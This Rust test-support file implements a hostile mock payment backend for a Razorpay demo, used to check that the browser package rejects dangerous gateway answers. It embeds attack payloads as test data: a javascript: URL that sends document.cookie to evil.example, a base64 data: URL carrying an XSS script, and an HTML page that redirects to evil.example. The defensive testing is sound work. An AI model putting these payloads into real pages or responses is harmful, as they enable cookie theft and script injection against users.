//! The hostile test backend (test support, never in the production binary):
//! the backend's checkout and OTP answers can be made hostile or broken,
//! one request at a time, to show that the browser package turns each into
//! a typed error and never navigates anywhere it should not.
//!
//! Only `examples/hostile_backend` (what the e2e tests start with
//! `HOSTILE_GATEWAY=1`) and `tests/hardening.rs` compile this file, through
//! `razorpay_demo::start_with`; the `razorpay-demo` binary has none of it.
//! A request picks its scenario with the header
//!
//! ```text
//! X-Hostile-Scenario: <route>:<scenario>
//! ```
//!
//! where `<route>` is `checkout` (`POST /api/checkout`), `otp-generate`,
//! `otp-submit` or `otp-resend` (`POST /api/checkout/otp/…`), and
//! `<scenario>` one of [`Scenario::NAMES`]. A request without the header, or
//! for another route, is served normally.
//!
//! Most answers are written on the raw connection, before axum sees the
//! request, so that they can be anything at all: a reset socket, a drip of
//! one byte at a time, 10 MB. For that, every connection is peeked at
//! ([`HostileListener`]) and every answer carries `Connection: close` (so
//! each request comes on a fresh connection). `slow-after-success` needs the
//! real backend and is done by [`layer`]: the order is created, the answer
//! held past the page's timeout (unless it is an idempotent replay).

use std::io;
use std::net::SocketAddr;
use std::sync::OnceLock;
use std::time::Duration;

use axum::extract::{Request, State};
use axum::http::header::CONNECTION;
use axum::http::{HeaderMap, HeaderValue, Method};
use axum::middleware::Next;
use axum::response::Response;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

/// The request header that picks a scenario.
pub const HEADER: &str = "x-hostile-scenario";

/// Where a scenario applies.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Route {
    /// `POST /api/checkout`.
    Checkout,
    /// `POST /api/checkout/otp/generate`.
    OtpGenerate,
    /// `POST /api/checkout/otp/submit`.
    OtpSubmit,
    /// `POST /api/checkout/otp/resend`.
    OtpResend,
}

impl Route {
    fn from_path(path: &str) -> Option<Route> {
        match path {
            "/api/checkout" => Some(Route::Checkout),
            "/api/checkout/otp/generate" => Some(Route::OtpGenerate),
            "/api/checkout/otp/submit" => Some(Route::OtpSubmit),
            "/api/checkout/otp/resend" => Some(Route::OtpResend),
            _ => None,
        }
    }

    fn from_name(name: &str) -> Option<Route> {
        match name {
            "checkout" => Some(Route::Checkout),
            "otp-generate" => Some(Route::OtpGenerate),
            "otp-submit" => Some(Route::OtpSubmit),
            "otp-resend" => Some(Route::OtpResend),
            _ => None,
        }
    }
}

/// A hostile or broken answer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scenario {
    /// 200, next actions whose URL is `javascript:…`.
    JavascriptUrl,
    /// 200, next actions whose URL is `data:text/html;base64,…`.
    DataUrl,
    /// 200, next actions on `https://evil.example`.
    ForeignHost,
    /// 200, next actions on `http:` to a host that is not loopback.
    HttpUrl,
    /// 200, an order whose `next` is `[]` and that has no payment id
    /// (checkout only: with a payment id an empty `next` is a legitimate
    /// "nothing to do", and an OTP reply falls back to the order's redirect).
    EmptyNext,
    /// 200, next actions this package does not know (`upi_collect`, …).
    UnknownActions,
    /// 200 with a 10 MiB JSON body (a `next` array of 10 MiB).
    HugeBody,
    /// 200 `text/html` (a proxy's error page).
    Html,
    /// 200 with a `Content-Length`, then one byte every 250 ms.
    SlowDrip,
    /// The connection is reset once the request is read: no answer at all.
    Reset,
    /// The real answer, held for longer than the page's timeout (checkout only).
    SlowAfterSuccess,
}

impl Scenario {
    /// Every scenario name, as used in the header.
    pub const NAMES: [&'static str; 11] = [
        "javascript-url",
        "data-url",
        "foreign-host",
        "http-url",
        "empty-next",
        "unknown-actions",
        "huge-body",
        "html",
        "slow-drip",
        "reset",
        "slow-after-success",
    ];

    fn from_name(name: &str) -> Option<Scenario> {
        Some(match name {
            "javascript-url" => Scenario::JavascriptUrl,
            "data-url" => Scenario::DataUrl,
            "foreign-host" => Scenario::ForeignHost,
            "http-url" => Scenario::HttpUrl,
            "empty-next" => Scenario::EmptyNext,
            "unknown-actions" => Scenario::UnknownActions,
            "huge-body" => Scenario::HugeBody,
            "html" => Scenario::Html,
            "slow-drip" => Scenario::SlowDrip,
            "reset" => Scenario::Reset,
            "slow-after-success" => Scenario::SlowAfterSuccess,
            _ => return None,
        })
    }

    /// Whether the scenario is defined for the route.
    fn applies_to(self, route: Route) -> bool {
        match self {
            Scenario::JavascriptUrl
            | Scenario::DataUrl
            | Scenario::ForeignHost
            | Scenario::HttpUrl
            | Scenario::UnknownActions => route != Route::OtpSubmit,
            Scenario::EmptyNext | Scenario::SlowAfterSuccess => route == Route::Checkout,
            Scenario::HugeBody | Scenario::Html | Scenario::SlowDrip | Scenario::Reset => true,
        }
    }
}

/// The scenario a request asks for, when it is defined for its route.
pub fn requested(method: &str, path: &str, header: Option<&str>) -> Option<(Route, Scenario)> {
    if method != "POST" {
        return None;
    }
    let route = Route::from_path(path.split('?').next().unwrap_or_default())?;
    let (wanted, name) = header?.trim().split_once(':')?;
    let scenario = Scenario::from_name(name.trim())?;
    (Route::from_name(wanted.trim())? == route && scenario.applies_to(route))
        .then_some((route, scenario))
}

// ------------------------------------------------------------------ answers

const PAYMENT_ID: &str = "pay_Hostile0000001";

fn hostile_url(scenario: Scenario) -> String {
    match scenario {
        Scenario::JavascriptUrl => {
            "javascript:fetch('https://evil.example/steal?c='+document.cookie)".into()
        }
        Scenario::DataUrl => {
            // <script>alert(document.domain)</script>
            "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+".into()
        }
        Scenario::ForeignHost => {
            format!("https://evil.example/v1/payments/{PAYMENT_ID}/authorize")
        }
        _ => format!("http://203.0.113.7/v1/payments/{PAYMENT_ID}/authorize"),
    }
}

fn order_with(next: Value, payment_id: bool) -> Value {
    let mut workflow = json!({ "next": next });
    if payment_id {
        workflow["razorpay_payment_id"] = json!(PAYMENT_ID);
    }
    json!({
        "id": "order_Hostile000001", "entity": "order", "amount": 100, "amount_paid": 0,
        "amount_due": 100, "currency": "INR", "receipt": null, "status": "attempted",
        "attempts": 1, "notes": [], "created_at": 1_751_876_065, "payment_workflow": workflow,
    })
}

fn otp_reply_with(next: Value) -> Value {
    json!({
        "razorpay_payment_id": PAYMENT_ID, "next": next,
        "metadata": { "issuer": "HDFC", "network": "VISA", "last4": "1111", "iin": "411111" },
    })
}

fn next_for(route: Route, url: &str) -> Value {
    match route {
        Route::Checkout => json!([
            { "action": "redirect", "url": url },
            { "action": "otp_generate", "url": url },
        ]),
        _ => json!([
            { "action": "otp_submit", "url": url },
            { "action": "otp_resend", "url": url },
        ]),
    }
}

/// The JSON body of a scenario that answers JSON at once.
fn json_answer(route: Route, scenario: Scenario) -> Value {
    let wrap = |next: Value| match route {
        Route::Checkout => order_with(next, true),
        _ => otp_reply_with(next),
    };
    match scenario {
        Scenario::EmptyNext => order_with(json!([]), false),
        Scenario::UnknownActions => {
            wrap(json!([{ "action": "upi_collect" }, { "action": "emi_plan" }, "pay_later"]))
        }
        s => wrap(next_for(route, &hostile_url(s))),
    }
}

/// At least 10 MiB of JSON: the order shape with a huge `next`.
fn huge_body() -> &'static [u8] {
    static BODY: OnceLock<Vec<u8>> = OnceLock::new();
    BODY.get_or_init(|| {
        let item = json!({ "action": "redirect", "url": hostile_url(Scenario::ForeignHost) });
        let each = item.to_string().len() + 1;
        let count = (10 * 1024 * 1024) / each + 1;
        order_with(Value::Array(vec![item; count]), true)
            .to_string()
            .into_bytes()
    })
}

const HTML: &str = "<!doctype html><html><head><title>Service Unavailable</title></head>\
<body><h1>Service Unavailable</h1><p>The server is temporarily unable to service your request.</p>\
<script>location.href='https://evil.example/'</script></body></html>";

fn head(content_type: &str, length: usize) -> String {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Length: {length}\r\n\
         Cache-Control: no-store\r\nConnection: close\r\n\r\n"
    )
}

/// Writes the scenario's answer on a connection whose request was read.
async fn answer(mut stream: TcpStream, route: Route, scenario: Scenario) {
    let written = match scenario {
        Scenario::Reset => {
            // SO_LINGER 0: close() sends RST, not FIN.
            let _ = stream.set_zero_linger();
            drop(stream);
            return;
        }
        Scenario::SlowDrip => {
            let body = order_with(next_for(route, "https://api.razorpay.com/"), true).to_string();
            let mut result = stream
                .write_all(head("application/json", body.len()).as_bytes())
                .await;
            for byte in body.as_bytes().chunks(1) {
                if result.is_err() {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(250)).await;
                result = stream.write_all(byte).await;
            }
            result
        }
        Scenario::Html => {
            let out = format!("{}{HTML}", head("text/html; charset=utf-8", HTML.len()));
            stream.write_all(out.as_bytes()).await
        }
        Scenario::HugeBody => {
            let body = huge_body();
            match stream
                .write_all(head("application/json", body.len()).as_bytes())
                .await
            {
                Ok(()) => stream.write_all(body).await,
                Err(e) => Err(e),
            }
        }
        _ => {
            let body = json_answer(route, scenario).to_string();
            let out = format!("{}{body}", head("application/json", body.len()));
            stream.write_all(out.as_bytes()).await
        }
    };
    if written.is_ok() {
        let _ = stream.shutdown().await;
    }
}

// ------------------------------------------------------------------ the listener

/// The most a hostile request may carry (the backend's own limit).
const MAX_REQUEST: usize = razorpay_demo::body::BODY_LIMIT + 16 * 1024;

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// The scenario (with the head length and the declared body length) of a
/// complete request head.
fn classify_head(head: &[u8]) -> Option<(Route, Scenario, usize)> {
    let text = std::str::from_utf8(head).ok()?;
    let mut lines = text.split("\r\n");
    let mut request_line = lines.next()?.split(' ');
    let (method, target) = (request_line.next()?, request_line.next()?);
    let mut scenario = None;
    let mut length = 0usize;
    for line in lines {
        let Some((name, value)) = line.split_once(':') else {
            continue;
        };
        let name = name.trim().to_ascii_lowercase();
        if name == HEADER {
            scenario = Some(value.trim().to_string());
        } else if name == "content-length" {
            length = value.trim().parse().ok()?;
        } else if name == "transfer-encoding" {
            // Not what a browser's fetch of a JSON string sends: leave it to axum.
            return None;
        }
    }
    let (route, scenario) = requested(method, target, scenario.as_deref())?;
    (scenario != Scenario::SlowAfterSuccess).then_some((route, scenario, length))
}

/// Peeks at a new connection's request head: hostile requests are answered
/// here, the others handed back for axum.
async fn sort(stream: TcpStream) -> Option<TcpStream> {
    let mut buf = vec![0u8; 16 * 1024];
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    let head_len = loop {
        let n = match tokio::time::timeout_at(deadline, stream.peek(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return None,
            Ok(Ok(n)) => n,
            // A preconnected socket that stays idle: axum's to handle.
            Err(_) => return Some(stream),
        };
        if let Some(end) = find(&buf[..n], b"\r\n\r\n") {
            break end + 4;
        }
        if n == buf.len() || tokio::time::Instant::now() >= deadline {
            return Some(stream);
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    };
    let Some((route, scenario, body_len)) = classify_head(&buf[..head_len]) else {
        return Some(stream);
    };
    let mut stream = stream;
    let total = head_len.saturating_add(body_len);
    if total > MAX_REQUEST {
        let _ = stream.set_zero_linger();
        return None;
    }
    // Read the whole request, so that closing never resets an unread body.
    let mut request = vec![0u8; total];
    let read = tokio::time::timeout(Duration::from_secs(30), stream.read_exact(&mut request)).await;
    if matches!(read, Ok(Ok(_))) {
        tokio::spawn(answer(stream, route, scenario));
    }
    None
}

/// A [`TcpListener`] that answers hostile requests itself and hands every
/// other connection to axum (see the module docs).
pub struct HostileListener {
    incoming: mpsc::Receiver<(TcpStream, SocketAddr)>,
    addr: SocketAddr,
}

impl HostileListener {
    /// Starts accepting on `listener` (the accept loop ends when the
    /// listener is dropped by the server).
    pub fn new(listener: TcpListener) -> io::Result<HostileListener> {
        let addr = listener.local_addr()?;
        let (tx, incoming) = mpsc::channel::<(TcpStream, SocketAddr)>(64);
        tokio::spawn(async move {
            loop {
                let accepted = tokio::select! {
                    a = listener.accept() => a,
                    () = tx.closed() => break,
                };
                match accepted {
                    Ok((stream, peer)) => {
                        let tx = tx.clone();
                        tokio::spawn(async move {
                            if let Some(stream) = sort(stream).await {
                                let _ = tx.send((stream, peer)).await;
                            }
                        });
                    }
                    Err(_) => tokio::time::sleep(Duration::from_millis(20)).await,
                }
            }
        });
        Ok(HostileListener { incoming, addr })
    }
}

impl axum::serve::Listener for HostileListener {
    type Io = TcpStream;
    type Addr = SocketAddr;

    async fn accept(&mut self) -> (TcpStream, SocketAddr) {
        match self.incoming.recv().await {
            Some(conn) => conn,
            None => std::future::pending().await,
        }
    }

    fn local_addr(&self) -> io::Result<SocketAddr> {
        Ok(self.addr)
    }
}

// ------------------------------------------------------------------ the layer

fn header_of(headers: &HeaderMap) -> Option<&str> {
    headers.get(HEADER).and_then(|v| v.to_str().ok())
}

/// The backend layer in hostile mode: `Connection: close` on every answer,
/// and `slow-after-success` (the real answer, held for `hold` unless it is a
/// replay of an earlier request with the same `Idempotency-Key`).
pub async fn layer(State(hold): State<Duration>, req: Request, next: Next) -> Response {
    let slow = req.method() == Method::POST
        && requested(
            req.method().as_str(),
            req.uri().path(),
            header_of(req.headers()),
        )
        .is_some_and(|(_, s)| s == Scenario::SlowAfterSuccess);
    let mut response = next.run(req).await;
    if slow && !response.headers().contains_key("idempotent-replayed") {
        tokio::time::sleep(hold).await;
    }
    response
        .headers_mut()
        .insert(CONNECTION, HeaderValue::from_static("close"));
    response
}

/// Starts the backend with the hostile layer and listener (see the module docs).
///
/// # Errors
/// [`razorpay_demo::start_with`]'s.
pub async fn start(config: razorpay_demo::Config) -> Result<razorpay_demo::Handles, String> {
    use axum::serve::ListenerExt;
    // Held past the page's timeout.
    let hold =
        Duration::from_millis(u64::from(config.checkout_timeout_ms.unwrap_or(30_000)) + 5_000);
    razorpay_demo::start_with(
        config,
        |app| app.layer(axum::middleware::from_fn_with_state(hold, layer)),
        |listener| {
            Ok(HostileListener::new(listener)
                .map_err(|e| format!("hostile listener: {e}"))?
                .tap_io(|_| {}))
        },
    )
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scenarios_are_picked_per_route() {
        let r = |m: &str, p: &str, h: &str| requested(m, p, Some(h));
        assert_eq!(
            r("POST", "/api/checkout", "checkout:reset"),
            Some((Route::Checkout, Scenario::Reset))
        );
        assert_eq!(
            r("POST", "/api/checkout/otp/submit", " otp-submit : html "),
            Some((Route::OtpSubmit, Scenario::Html))
        );
        // Another route, method, unknown name, or a scenario not defined there.
        assert_eq!(
            r("POST", "/api/checkout/otp/submit", "checkout:reset"),
            None
        );
        assert_eq!(r("GET", "/api/checkout", "checkout:reset"), None);
        assert_eq!(r("POST", "/api/checkout", "checkout:nope"), None);
        assert_eq!(
            r(
                "POST",
                "/api/checkout/otp/submit",
                "otp-submit:javascript-url"
            ),
            None
        );
        assert_eq!(
            r(
                "POST",
                "/api/checkout/otp/generate",
                "otp-generate:empty-next"
            ),
            None
        );
        assert_eq!(requested("POST", "/api/checkout", None), None);
        for name in Scenario::NAMES {
            assert!(Scenario::from_name(name).is_some(), "{name}");
        }
    }

    #[test]
    fn heads_are_classified() {
        let head = b"POST /api/checkout HTTP/1.1\r\nHost: x\r\nX-Hostile-Scenario: checkout:html\r\nContent-Length: 12\r\n\r\n";
        assert_eq!(
            classify_head(head),
            Some((Route::Checkout, Scenario::Html, 12))
        );
        let slow = b"POST /api/checkout HTTP/1.1\r\nx-hostile-scenario: checkout:slow-after-success\r\n\r\n";
        assert_eq!(
            classify_head(slow),
            None,
            "slow-after-success is the layer's"
        );
        assert_eq!(classify_head(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"), None);
    }

    #[test]
    fn the_huge_body_is_over_ten_mebibytes_of_json() {
        let body = huge_body();
        assert!(body.len() >= 10 * 1024 * 1024);
        assert!(serde_json::from_slice::<Value>(body).is_ok());
    }
}
